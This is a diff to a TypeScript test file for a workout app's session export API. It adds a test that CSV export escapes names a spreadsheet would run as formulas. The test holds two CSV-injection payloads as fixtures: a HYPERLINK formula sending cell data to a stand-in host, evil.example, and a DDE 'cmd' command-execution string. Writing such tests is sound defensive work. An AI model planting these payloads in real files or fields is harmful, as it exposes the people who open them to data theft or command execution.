@@ -1,5 +1,6 @@
-import { describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
+import * as montageRoute from '../../app/api/montages/[id]/route';
 import * as sessionsRoute from '../../app/api/sessions/route';
 import * as exportRoute from '../../app/api/sessions/export/route';
 import { getDb } from '../../db/client';
@@ -8,6 +9,11 @@ import { exerciseSeries, streakWeeks } from '../../lib/domain/progress';
 import { logEntry } from '../../lib/domain/session-record';
 import { Visitor } from './api-client';
 import { followWorkout, visitorWithMontage } from './workouts';
+
+// Opening the database (migrations, the catalog) may take longer than one test on a loaded machine.
+beforeAll(async () => {
+  await getDb();
+}, 120_000);
 
 /** A workout on `day` followed for `untilMs`, with `reps` logged after its first work interval. */
 function workout(montage: any, day: string, untilMs: number, reps?: number) {
@@ -80,6 +86,20 @@ describe('progress from recorded sessions', () => {
     expect(rows).toHaveLength(session.intervals.length);
     expect(rows[0]).toMatchObject({ session_id: session.id, exercise: session.intervals[0]!.exercise, reps: '8', load_kg: '40' });
     expect(rows.map((r) => r.interval_status)).toEqual(session.intervals.map((i) => i.status));
+  });
+
+  it('writes names a spreadsheet would run as formulas (=, +, -, @) as text in the CSV, and as they are in JSON', async () => {
+    const { visitor, montage } = await visitorWithMontage();
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Rocky")';
+    expect((await visitor.call(montageRoute.PATCH, 'PATCH', { params: { id: montage.id }, body: { version: montage.version, name } })).status).toBe(200);
+    const session = workout({ ...montage, name }, '2026-11-22', 90_000);
+    session.intervals[0]!.exercise = '@SUM(1+1)*cmd|"/C calc"!A0';
+    expect((await visitor.call(sessionsRoute.POST, 'POST', { body: session })).status).toBe(201);
+    const rows = parse(await (await download(visitor, 'csv')).text(), { columns: true }) as Record<string, string>[];
+    expect(rows[0]!.montage_name).toBe(`'${name}`);
+    expect(rows[0]!.exercise).toBe(`'${session.intervals[0]!.exercise}`);
+    const json = await (await download(visitor, 'json')).json();
+    expect(json.sessions[0].intervals[0].exercise).toBe(session.intervals[0]!.exercise);
   });
 
   it("exports nothing of anyone else's, and refuses an unknown format naming it", async () => {
